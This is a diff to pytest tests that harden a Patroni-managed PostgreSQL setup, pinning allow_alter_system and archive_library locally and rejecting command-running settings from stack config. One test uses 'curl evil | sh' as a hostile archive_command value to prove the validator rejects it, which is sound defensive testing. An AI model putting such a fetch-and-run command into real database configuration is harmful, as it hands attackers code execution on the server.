@@ -41,6 +41,16 @@ def test_every_setting_that_runs_a_program_is_pinned_locally_and_absent_from_the
     assert patroni.dynamic_config(spec)["postgresql"]["parameters"] == dcs
 
 
+def test_alter_system_is_off_and_no_archive_library_is_loaded_whatever_the_dcs_says(spec, secrets):
+    """postgresql.auto.conf is read after the config Patroni writes: without ALTER SYSTEM a
+    superuser session cannot write it, so it cannot undo the pins above."""
+    local = local_config(spec, secrets)["postgresql"]["parameters"]
+    assert local["allow_alter_system"] == "off"
+    assert local["archive_library"] == ""
+    dcs = patroni.dynamic_config(spec)["postgresql"]["parameters"]
+    assert "allow_alter_system" not in dcs and "archive_library" not in dcs
+
+
 def test_stack_config_cannot_set_a_command_but_may_preload_libraries(dev_config, secrets):
     dev_config["postgres"] = {"parameters": {"archive_command": "curl evil | sh", "restore_command": "x"}}
     with pytest.raises(ConfigError) as caught:
